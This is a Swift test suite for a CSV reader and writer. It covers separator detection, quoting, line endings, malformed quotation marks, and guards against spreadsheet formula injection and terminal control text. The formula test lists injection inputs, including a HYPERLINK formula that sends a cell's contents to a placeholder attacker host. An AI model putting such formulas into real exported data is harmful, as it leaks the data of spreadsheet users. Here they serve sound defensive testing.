import TestSupport
import Testing

@testable import FileFormats

@Suite("CSV")
struct CSVTests {
    private func text(_ records: [[String]]) -> String {
        var output: [UInt8] = []
        for record in records { CSVWriter.append(record, to: &output) }
        return String(decoding: output, as: UTF8.self)
    }

    private static func records(_ bytes: [UInt8]) throws(FileFormatError) -> [[String]] {
        var reader = CSVRecords(bytes)
        var records: [[String]] = []
        while let record = try reader.next() { records.append(record.fields) }
        return records
    }

    @Test(
        "The separator of a table is detected by its first line",
        arguments: [
            ("a,b;c;d\n", ","), ("a;b;c\nd,e,f\n", ";"), ("a;b\n", ","), ("a\tb\tc", "\t"), ("a\tb;c;d\r\n", ";"),
            ("\"a,b\";c;d\n", ";"), ("\"a;b;c;d\"\n", ","), ("a\n;;;\n", ","), ("", ","), ("\u{FEFF}a;b;c", ";"),
            ("\"x \"\"y,\"\"\";b;c", ";"),
        ] as [(String, Unicode.Scalar)])
    func separators(table: String, separator: Unicode.Scalar) throws {
        let found = CSVRecords.separator(of: table.utf8)
        #expect(found == UInt8(ascii: separator))
    }

    @Test("A table with semicolons has commas in its fields, and quotation marks as others have")
    func semicolons() throws {
        var records = CSVRecords(Array("a;b;c\r\n1,5;\"x;\"\"y\"\"\nz\";\r\n".utf8), separator: UInt8(ascii: ";"))
        #expect(try records.next()?.fields == ["a", "b", "c"])
        #expect(try records.next()?.fields == ["1,5", "x;\"y\"\nz", ""])
        #expect(try records.next() == nil)
    }

    @Test(
        "Fields are quoted only if they contain a separator, a quotation mark or a line break",
        arguments: [
            (["a", "", "b c"], "a,,b c\r\n"), (["a,b"], "\"a,b\"\r\n"), (["say \"x\""], "\"say \"\"x\"\"\"\r\n"),
            (["a\nb", "c\rd"], "\"a\nb\",\"c\rd\"\r\n"), ([], "\r\n"),
        ])
    func quoting(record: [String], expected: String) {
        #expect(text([record]) == expected)
    }

    @Test(
        "No field is a formula for a spreadsheet, and each is read back unchanged",
        arguments: [
            "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
            "＝1", "＋1", "－1", "＠x", "-", "'=1", "''=1", "'tis", "''", "'", "a=1", "", "０", "é", "1-1",
            "=\u{301}1", "'\u{301}", "\u{FF}", "﹢1", "\u{EF}\u{BC}",
        ])
    func formulas(field: String) throws {
        let output = Array(text([["a", field]]).utf8)
        let read = try #require(try Self.records(output).first?.last)
        #expect(read.unicodeScalars.first.map { !"=+-@\t\r\n＝＋－＠".unicodeScalars.contains($0) } ?? true)
        #expect(Array(FormulaGuard.removed(from: read).utf8) == Array(field.utf8))
    }

    @Test("A table contains nothing that a terminal obeys or hides", arguments: HostileText.texts)
    func hostile(text: String) {
        var writer = BookmarksWriter()
        var bookmarks = writer.opening(title: text)
        writer.beginFolder(text, in: &bookmarks)
        writer.append(Bookmark(url: "https://a/", title: text, tags: [text], note: text), to: &bookmarks)
        for output in [Array(self.text([[text], ["\"" + text]]).utf8), bookmarks + writer.closing()] {
            #expect(HostileText.problems(in: output, keeping: HostileText.isKeptInTables) == [])
            #expect(String(decoding: output, as: UTF8.self).contains(HostileText.canary))
        }
    }

    @Test(
        "Characters of languages and flags stay in a table",
        arguments: [
            "\u{E20}\u{200B}\u{E32}", "\u{908A}\u{E0101}", "\u{2764}\u{FE0F}",
            "\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}", "\u{1F469}\u{200D}\u{1F467}",
        ])
    func languages(field: String) throws {
        let read = try Self.records(Array(text([[field, "\"" + field]]).utf8))
        #expect(read.map { $0.map { Array($0.utf8) } } == [[Array(field.utf8), Array(("\"" + field).utf8)]])
    }

    @Test("Only the apostrophe of a guard is removed", arguments: ["'tis", "'", "''", "'a=1", "x'=1"])
    func apostrophes(field: String) {
        #expect(FormulaGuard.removed(from: field) == field)
    }

    @Test(
        "Records are read with either line ending and with a byte order mark",
        arguments: [
            ("a,b\rc,d\r", [["a", "b"], ["c", "d"]]), ("a,\"b\rc\"\r\rd", [["a", "b\rc"], [""], ["d"]]),
            ("a,b\r\nc,d\r\n", [["a", "b"], ["c", "d"]]), ("a,b\nc,d", [["a", "b"], ["c", "d"]]),
            ("\u{FEFF}\"x, \"\"y\"\"\nz\",\n", [["x, \"y\"\nz", ""]]), ("a \" mark,b", [["a \" mark", "b"]]),
            ("\n\n", [[""], [""]]), ("", []), ("a,", [["a", ""]]), ("\"a\"b,c", [["ab", "c"]]), ("\"\"", [[""]]),
        ])
    func reading(text: String, expected: [[String]]) throws {
        #expect(try Self.records(Array(text.utf8)) == expected)
    }

    @Test("A byte that is not UTF-8 damages only its own field")
    func encoding() throws {
        #expect(try Self.records([0x61, 0xE2, 0x82, 0x2C, 0x62]) == [["a\u{FFFD}", "b"]])
    }

    @Test("A table that ends within quotation marks is refused", arguments: ["a,\"b", "\"", "a,\"he said \"\"yes\"\""])
    func truncated(text: String) {
        #expect(throws: FileFormatError.unclosedQuotationMark(lines: 1...1)) { try Self.records(Array(text.utf8)) }
    }

    /// Returns the records of a table, and the first lines of those that cannot be read.
    ///
    /// A record of several lines with another number of fields is read again from its second line.
    private func reread(_ text: String, fieldCount: Int) -> (records: [CSVRecord], damaged: [Int]) {
        var records = CSVRecords(Array(text.utf8))
        var read: [CSVRecord] = []
        var damaged: [Int] = []
        while true {
            do throws(FileFormatError) {
                guard let record = try records.next() else { break }
                let isDamaged = record.fields.count != fieldCount && records.rereadFromSecondLine()
                if isDamaged { damaged.append(record.line) } else { read.append(record) }
            } catch {
                if case .unclosedQuotationMark(let lines) = error { damaged.append(lines.lowerBound) }
            }
        }
        return (read, damaged)
    }

    @Test(
        "A wrong quotation mark damages only the line in which its record begins",
        arguments: [
            // The first mark closes at the next one, and the records between them have the expected number of fields.
            ("a,b\n1,\"x\n2,y\n\n3,\"z\"\n4,\"\n5,v", ["a", "1", "5"], [6]),
            ("a,b\n\"1,x\n2,y\n3,z\n", ["a", "2", "3"], [2]),
            ("a,b\r\n\"1,x\r\n2,y\r\n\"3,3\",\"z\r\nz\"\r\n", ["a", "2", "3,3"], [2]),
            ("\"1,x\n2,\"y\n\"3,z\n4,v", ["4"], [1, 2, 3]),
            ("\"a\na\",b\n\"c\nc\",d\n", ["a\na", "c\nc"], []),
            ("1,x,\"two\nlines\"\n2,y\n", ["lines\"", "2"], [1]), ("1\n2,\"", ["1"], [2]),
        ] as [(String, [String], [Int])])
    func wrongMarks(text: String, firstFields: [String], damaged: [Int]) {
        let found = reread(text, fieldCount: 2)
        #expect(found.records.map { $0.fields[0] } == firstFields && found.damaged == damaged)
    }

    @Test(
        "Text after a closing quotation mark is reported",
        arguments: [
            ("\"a\",\"b\"\r\n", false), ("\"a\"b,c\n", true), ("\"a\" ,c \n", false), ("\"a\"  ", false),
            ("\"a\" b,c", true), ("\"a\"\"b\",\"c\"", false),
            ("a \"b\" c,\"\"\n", false),
        ])
    func textAfterMark(text: String, isReported: Bool) {
        #expect(reread(text, fieldCount: 2).records.map(\.hasTextAfterMark) == [isReported])
    }

    @Test("A record names its first and its last line, and tells if a line break ends it")
    func lines() {
        let records = reread("a,b\n\"c\r\nc\",d\n\n\"e\re\",f", fieldCount: 2).records
        #expect(records.map(\.line) == [1, 2, 4, 5] && records.map(\.lastLine) == [1, 3, 4, 6])
        #expect(records.map(\.hasLineBreak) == [true, true, true, false])
    }

    @Test(
        "A table in which each line opens a quotation mark is read a limited number of times", .timeLimit(.minutes(5)),
        arguments: [("x\"y,\"z\n", ""), ("\"\n", ""), ("x\"y,\"z\n", "\",\n")])
    func unclosedSize(line: String, end: String) {
        let lines = String(repeating: line, count: (1 << 20) / line.utf8.count)
        // Marks of short records are all read again.
        #expect(reread(lines + end, fieldCount: 3).damaged.count <= (line == "\"\n" ? 1 << 20 : 12))
    }

    @Test("Time grows with the size only", .timeLimit(.minutes(5)), arguments: [",", "\n", "\"\"", "\"a\",", "a"])
    func size(piece: String) throws {
        let text = Array(repeatElement(Array(piece.utf8), count: (1 << 20) / piece.utf8.count).joined())
        #expect(throws: Never.self) { try Self.records(text) }
    }
}
